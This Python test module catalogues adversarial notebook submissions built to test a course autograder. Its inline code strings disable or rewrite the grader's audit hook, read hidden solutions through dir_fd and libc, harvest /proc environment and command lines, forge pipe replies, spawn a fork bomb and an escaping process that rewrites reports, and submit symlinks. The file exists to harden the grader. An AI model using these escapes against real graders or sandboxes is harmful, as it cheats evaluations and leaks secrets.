"""The attack catalogue: submissions that try to earn points without a correct answer, or
to crash, hang, read or outlive the grader.

Each attack starts from a fully solved notebook (chapter 01 unless it says otherwise) and
changes it the way a student (or a broken submission) would. ``target`` is the checkpoint it
attacks: that one must score 0 and be flagged or explained, every other checkpoint must keep
its points. ``refused``: the submission itself is malformed (or not a submission at all) and
must be refused as a whole, with an error that says why. ``nbgrader`` says whether the
attack is safe to run under plain ``nbgrader autograde`` too, and what nbgrader gives it
(``None``: the same as the grading command).

``kind`` is the class of attack, after issue 10: "classic" (the first 17), "audit hook"
(its state is the learner's to change), "path checks" (``dir_fd``, a rename's destination,
``os.mkfifo``, ctypes through a library already loaded), "grader's /proc", "escaping
process", "reply channel" (forged, deeply nested, huge, blocking, unreadable replies) and
"submission file" (malformed metadata, huge cells, symbolic links).

Attacks that write try the canaries below; the test checks that nothing appeared there,
that ``CANARY_REPORT`` (a stand-in for the grader's report.json) is unchanged after grading,
and that ``SECRET_ENV``, set in the grader's environment, appears in no report.
"""

from __future__ import annotations

import os
import random
import tempfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

from autograder.core import lookup
from autograder.grading import chapter_plan
from autograder.notebooks import ROOT, source_path

CHAPTER = "01_tokenizer"
TOTAL = 9
CANARY_DIR = Path(tempfile.gettempdir()) / f"course-attack-canary-{os.getpid()}"
CANARY_REPORT = CANARY_DIR / "report.json"
ROOT_CANARY = ROOT / f".attack-canary-{os.getpid()}"  # the course folder, which no attack may write
SECRET_ENV = "COURSE_GRADER_SECRET"


def total(chapter: str) -> int:
    return sum(lookup(checkpoint).points for checkpoint, _, _ in chapter_plan(chapter).checkpoints)


def solved(chapter: str = CHAPTER):
    return nbformat.read(source_path(chapter), as_version=4)


def cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def replace_body(nb, grade_id, function, body):
    """Keep the answer cell's other functions; give ``function`` a new body."""
    c = cell(nb, grade_id)
    head, _, _ = c.source.partition(f"def {function}(")
    rest = c.source[len(head):]
    signature_end = rest.index('"""', rest.index('"""') + 3) + 3
    after = rest[signature_end:]
    following = after.find("\n\n\ndef ")
    tail = after[following:] if following != -1 else ""
    c.source = head + rest[:signature_end] + "\n" + body + tail


def add_cell(nb, source, before_grade_id="merge"):
    index = nb.cells.index(cell(nb, before_grade_id))
    nb.cells.insert(index, nbformat.v4.new_code_cell(source))


# Attacks target decode: no other answer calls it, so every other checkpoint must keep its
# points (an attack on merge would also sink train_bpe, which calls the learner's merge).
TARGET = "01.decode"
WRONG = "    return ''  # wrong\n"


@dataclass
class Attack:
    name: str
    target: str
    build: Callable | None
    flagged: bool  # must the report flag it?
    nbgrader_safe: bool = True
    nbgrader_score: float | None = None  # None: nbgrader gives the same score as the grader
    kind: str = "classic"
    chapter: str = CHAPTER
    verdict: str | None = None  # the target's verdict, where it must be this one
    refused: bool = False  # the whole submission is refused with an error
    write: Callable[[Path], None] | None = None  # puts the submission at a path itself (links)


def patch_then_wrong(patch: str):
    def build(nb):
        add_cell(nb, patch)
        replace_body(nb, "decode", "decode", WRONG)
    return build


def course_check_patched(nb):
    replace_body(nb, "decode", "decode", WRONG)
    cell(nb, "decode").source += (
        "\n\nimport autograder\nautograder.check = lambda *args, **kwargs: print('✓ (patched)')\n"
    )


def imports_reference(nb):
    replace_body(nb, "decode", "decode", "    from solutions.tokenizer import decode as reference\n    return reference(ids, vocab)\n")


def reads_reference(nb):
    path = ROOT / "solutions" / "tokenizer.py"
    replace_body(nb, "decode", "decode", (
        f"    namespace = {{}}\n    exec(open({str(path)!r}).read(), namespace)\n"
        "    return namespace['decode'](ids, vocab)\n"
    ))


def edits_check_cell(nb):
    replace_body(nb, "decode", "decode", WRONG)
    cell(nb, "check_decode").source = "print('✓ 01.decode')"


def deletes_check_cell(nb):
    replace_body(nb, "decode", "decode", WRONG)
    nb.cells.remove(cell(nb, "check_decode"))


def hard_codes_visible_outputs(nb):
    cases = lookup("01.merge").cases(random.Random("01.merge/0"))
    table = {repr(c.args): None for c in cases}
    from solutions.tokenizer import merge

    table = {key: merge(*eval(key)) for key in table}  # noqa: S307 - our own reprs
    replace_body(nb, "decode", "decode", f"    table = {table!r}\n    return table.get(repr((ids, pair, new_id)), list(ids))\n")


ATTACKS = [
    Attack("monkeypatch torch.allclose", TARGET, patch_then_wrong("import torch\ntorch.allclose = lambda *a, **k: True"), True),
    Attack("monkeypatch torch.testing.assert_close", TARGET,
           patch_then_wrong("import torch.testing\ntorch.testing.assert_close = lambda *a, **k: None"), True),
    Attack("monkeypatch numpy.allclose", TARGET, patch_then_wrong("import numpy\nnumpy.allclose = lambda *a, **k: True"), True),
    Attack("monkeypatch the course's check", TARGET, course_check_patched, True, nbgrader_score=TOTAL),
    Attack("import the reference package", TARGET, imports_reference, True, nbgrader_score=TOTAL),
    Attack("read the reference's files", TARGET, reads_reference, True, nbgrader_score=TOTAL),
    Attack("edit a checkpoint cell", TARGET, edits_check_cell, True),
    Attack("delete a checkpoint cell", TARGET, deletes_check_cell, True),
    Attack("hard-code the visible outputs", TARGET, hard_codes_visible_outputs, False),
    Attack("infinite loop", TARGET, lambda nb: replace_body(nb, "decode", "decode", "    while True:\n        pass\n"), True),
    Attack("allocate 30 GB", "01.decode", lambda nb: replace_body(
        nb, "decode", "decode", "    hoard = bytearray(30 * 2**30)\n    hoard[::4096] = b'x' * len(hoard[::4096])\n    return ''\n"),
        True, nbgrader_safe=False),
    Attack("sys.exit()", TARGET, lambda nb: replace_body(nb, "decode", "decode", "    import sys\n    sys.exit(0)\n"), True),
    Attack("os._exit()", TARGET, lambda nb: replace_body(nb, "decode", "decode", "    import os\n    os._exit(0)\n"),
           True, nbgrader_safe=False),
    # nbgrader's score for it depends on the machine's speed (its cell times out on a loaded
    # machine: 0; on a quiet one it ends in time: 8), so there is no one score to compare with
    Attack("print 100 MB", TARGET, lambda nb: replace_body(
        nb, "decode", "decode", "    print('x' * 100_000_000)\n    return ''\n"), True, nbgrader_safe=False),
    Attack("segfault through ctypes", TARGET, lambda nb: replace_body(
        nb, "decode", "decode", "    import ctypes\n    return ctypes.string_at(0)\n"), True, nbgrader_safe=False),
    Attack("spawn processes without end", TARGET, lambda nb: replace_body(
        nb, "decode", "decode", "    import os\n    while True:\n        os.fork()\n"), True, nbgrader_safe=False),
    Attack("spawn a shell", TARGET, lambda nb: replace_body(
        nb, "decode", "decode", "    import subprocess\n    return subprocess.run(['echo'], capture_output=True, text=True).stdout\n"),
        True, nbgrader_safe=False),
]


# --------------------------------------------------------------- attacks after issue 10

def body(function: str, source: str, grade_id: str | None = None):
    """A build that gives ``function`` (in its answer cell) the body ``source`` (unindented)."""
    def build(nb):
        replace_body(nb, grade_id or function, function, _indent(source))
    return build


def _indent(source: str) -> str:
    return "".join(f"    {line}\n" if line else "\n" for line in source.strip("\n").splitlines())


REFERENCE = ROOT / "solutions" / "tokenizer.py"
LAYERS = ROOT / "solutions" / "layers.py"
PIPES = """
import os, stat, fcntl
def pipes(mode):  # the worker's pipes: the reply pipe is the FIFO open for writing
    found = []
    for fd in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == mode:
                found.append(fd)
        except OSError:
            pass
    return found
import __main__
new_format = hasattr(__main__, "encode")  # the wire format of the worker's replies, else pickle
"""


def forge(new_format: str, old_format: str):
    """Write a forged reply to the reply pipe (in the worker's own format), then return ''."""
    return body("decode", PIPES + f"""
payload = ({new_format}) if new_format else ({old_format})
for fd in pipes(os.O_WRONLY):
    os.write(fd, len(payload).to_bytes(8, "big") + payload)
return ''
""")


def forge_at_setup(nb):
    """While the worker sets up decode's checkpoint (the frame above says which names it was
    asked for), answer ("return", {}) before the worker's ("ready", report)."""
    cell(nb, "decode").source += "\n\n" + PIPES + """
import sys
frame = sys._getframe(0)
while frame is not None and "names" not in frame.f_locals:
    frame = frame.f_back
if frame is not None and "decode" in frame.f_locals["names"]:
    payload = (b"t" + (2).to_bytes(4, "little") + b"s" + (6).to_bytes(4, "little") + b"return" + b"d" + bytes(4)
               if new_format else __import__("pickle").dumps(("return", {})))
    for fd in pipes(os.O_WRONLY):
        os.write(fd, len(payload).to_bytes(8, "big") + payload)
"""


def symlink_to_solution(path: Path) -> None:
    path.symlink_to(source_path(CHAPTER))


def folder_linking_to_the_course(path: Path) -> None:
    path.parent.rmdir()
    path.parent.symlink_to(source_path(CHAPTER).parent, target_is_directory=True)


def string_metadata(nb):
    cell(nb, "decode").metadata["nbgrader"] = "decode"


def huge_cell(nb):
    add_cell(nb, "x = 1\n" + "# padding\n" * 600_000)


ATTACKS += [
    # 1. the audit hook's state is reachable from the learner's code
    Attack("switch the audit hook off, then read the reference", TARGET, body("decode", f"""
import __main__
__main__._IN_HOOK = True  # the hook returns at once while this is set
namespace = {{}}
exec(open({str(REFERENCE)!r}).read(), namespace)
return namespace['decode'](ids, vocab)
"""), False, nbgrader_safe=False, kind="audit hook"),
    Attack("rewrite the audit hook's code, then import the reference", TARGET, body("decode", """
import gc, __main__
for obj in gc.get_objects():
    if getattr(obj, '__name__', None) == 'audit' and hasattr(obj, '__code__'):
        obj.__code__ = (lambda event, args: None).__code__
__main__._refuse = lambda what: None
__main__.FORBIDDEN_MODULES = ()
import sys
sys.path.insert(0, ROOT)  # the worker runs isolated (python -I): put the course back on the path
from solutions.tokenizer import decode as reference
return reference(ids, vocab)
""".replace("ROOT", repr(str(ROOT)))), False, nbgrader_safe=False, kind="audit hook"),
    # 2. path checks that miss dir_fd, a rename's destination, calls without audit events
    Attack("read the reference through dir_fd", TARGET, body("decode", f"""
import os
root = os.open('/', os.O_RDONLY | os.O_DIRECTORY)
fd = os.open({str(REFERENCE).lstrip('/')!r}, os.O_RDONLY, dir_fd=root)  # resolved against cwd by the hook
namespace = {{}}
exec(os.read(fd, 10**7).decode(), namespace)
return namespace['decode'](ids, vocab)
"""), False, nbgrader_safe=False, kind="path checks"),
    Attack("write outside through a rename's destination", TARGET, body("decode", f"""
import os
for target in ({str(CANARY_DIR / 'renamed')!r}, {str(ROOT_CANARY)!r}):
    try:
        with open('escapee', 'w') as file:
            file.write('escaped')
        os.rename('escapee', target)  # the hook checked only the source
    except OSError:
        pass
return ''
"""), False, nbgrader_safe=False, kind="path checks"),
    Attack("make a FIFO outside (os.mkfifo raises no audit event)", TARGET, body("decode", f"""
import os
for target in ({str(CANARY_DIR / 'fifo')!r}, {str(ROOT_CANARY) + '-fifo'!r}):
    try:
        os.mkfifo(target)
    except OSError:
        pass
return ''
"""), False, nbgrader_safe=False, kind="path checks"),
    Attack("libc through ctypes.pythonapi, loaded with torch before the hook", "02.causal_mask", body("causal_mask", f"""
import ctypes
libc = ctypes.pythonapi  # dlopen(NULL): libc's open, read, write, without an audit event each
out = libc.open({str(CANARY_DIR / 'ctypes').encode()!r}, 0o1101, 0o644)
libc.write(out, b'escaped', 7)
fd = libc.open({str(LAYERS).encode()!r}, 0)
buffer = ctypes.create_string_buffer(1 << 20)
n = libc.read(fd, buffer, 1 << 20)
namespace = {{}}
exec(buffer.raw[:max(n, 0)].decode(), namespace)
return namespace['causal_mask'](q_len, kv_len)
"""), False, nbgrader_safe=False, kind="path checks", chapter="02_building_blocks"),
    # 3. the grader's /proc
    Attack("read the grader's environment and command line", TARGET, lambda nb: (add_cell(nb, """
import os
found = []
for pid in [str(os.getppid())] + [p for p in os.listdir('/proc') if p.isdigit()]:
    for name in ('environ', 'cmdline'):
        try:
            found.append(open(f'/proc/{pid}/{name}', 'rb').read().decode('utf-8', 'replace'))
        except OSError:
            pass
LEAKED = ' '.join(found).replace('\\x00', ' ')
print(LEAKED)
"""), replace_body(nb, "decode", "decode", "    return LEAKED\n")), False, nbgrader_safe=False, kind="grader's /proc"),
    # 4. a process that outlives its checkpoint
    Attack("a setsid child rewrites the report after grading", TARGET, body("decode", f"""
import __main__, os, time
__main__._IN_HOOK = True
if os.fork() == 0:
    os.setsid()  # out of the worker's process group, which is all the old grader killed
    time.sleep(3)
    with open({str(CANARY_REPORT)!r}, 'w') as file:
        file.write('rewritten after grading')
    os._exit(0)
return ''
"""), False, nbgrader_safe=False, kind="escaping process"),
    # 5. the reply channel
    Attack("forge the worker's first reply on the reply pipe", TARGET, forge_at_setup, True, nbgrader_safe=False,
           kind="reply channel", verdict="crashed"),
    Attack("forge a reply of the wrong kind on the reply pipe", TARGET, forge(
        "b't' + (2).to_bytes(4, 'little') + b's' + (5).to_bytes(4, 'little') + b'ready' + b'd' + bytes(4)",
        "__import__('pickle').dumps(('ready', {}))"), True, nbgrader_safe=False, kind="reply channel", verdict="crashed"),
    Attack("forge a reply nested 100,000 levels deep", TARGET, forge(
        "(b'l' + (1).to_bytes(4, 'little')) * 100_000 + b'N'",
        "b'\\x80\\x02' + b']' * 100_000 + b'a' * 99_999 + b'.'"), True, nbgrader_safe=False, kind="reply channel",
        verdict="crashed"),
    Attack("forge a reply naming a 16 GB bytearray", TARGET, forge(
        "b'X' + bytes([5]) + b'uint8' + bytes([1]) + (2**34).to_bytes(8, 'little') + (2**34).to_bytes(8, 'little')",
        "b'\\x80\\x02c__builtin__\\nbytearray\\n\\x8a\\x05\\x00\\x00\\x00\\x00\\x04\\x85R.'"), True,
        nbgrader_safe=False, kind="reply channel", verdict="crashed"),
    Attack("return 4,096 references to one 1 MB object", TARGET, body("decode", """
return [bytes(2**20)] * 4096  # 4 GB once expanded
"""), False, nbgrader_safe=False, kind="reply channel"),
    Attack("stop reading and shrink the pipe, so the grader's next write blocks", TARGET, body("decode", PIPES + """
__main__._IN_HOOK = True
for fd in pipes(os.O_RDONLY):
    try:
        fcntl.fcntl(fd, 1031, 4096)  # F_SETPIPE_SZ: one page
        filler = os.open(f'/proc/self/fd/{fd}', os.O_WRONLY | os.O_NONBLOCK)  # a write end of our own
        os.write(filler, bytes(4096))  # and fill it
    except OSError:
        pass
__main__.receive = lambda channel: __import__('time').sleep(10**6)
return ''
"""), True, nbgrader_safe=False, kind="reply channel", verdict="timeout"),
    Attack("return 10**400 where a float is expected", "06.lr_at", body("lr_at", """
return 10**400  # math.isclose(10**400, x) raises OverflowError: the case fails, the check goes on
"""), False, nbgrader_safe=False, kind="reply channel", chapter="06_pretraining", verdict="fail"),
    Attack("return 10**5000 (too long to print)", TARGET, body("decode", """
return 10**5000  # repr() refuses more than 4,300 digits: the report says so, the case fails
"""), False, nbgrader_safe=False, kind="reply channel", verdict="fail"),
    # 6. the submission file itself
    Attack("metadata.nbgrader is a string", TARGET, string_metadata, False, nbgrader_safe=False,
           kind="submission file", refused=True),
    Attack("a 6 MB code cell", TARGET, huge_cell, False, nbgrader_safe=False, kind="submission file", refused=True),
    Attack("the submission is a symlink to the solution notebook", TARGET, None, False, nbgrader_safe=False,
           kind="submission file", refused=True, write=symlink_to_solution),
    Attack("the submission's folder links to the course's notebooks", TARGET, None, False, nbgrader_safe=False,
           kind="submission file", refused=True, write=folder_linking_to_the_course),
]


def slug(attack: Attack) -> str:
    keep = "".join(c if c.isalnum() else "_" for c in attack.name.replace("'", ""))
    return "_".join(filter(None, keep.split("_")))[:80]


def write_attack(attack: Attack, folder: Path) -> Path:
    if attack.kind == "classic":  # the first 17 keep their folder names (the CLI test names two)
        name = attack.name.replace(" ", "_").replace("'", "").replace(".", "_").replace("(", "").replace(")", "")
    else:
        name = slug(attack)
    path = folder / name / f"{attack.chapter}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    if attack.write is not None:
        attack.write(path)
        return path
    nb = solved(attack.chapter)
    attack.build(nb)
    nbformat.write(nb, path)
    return path
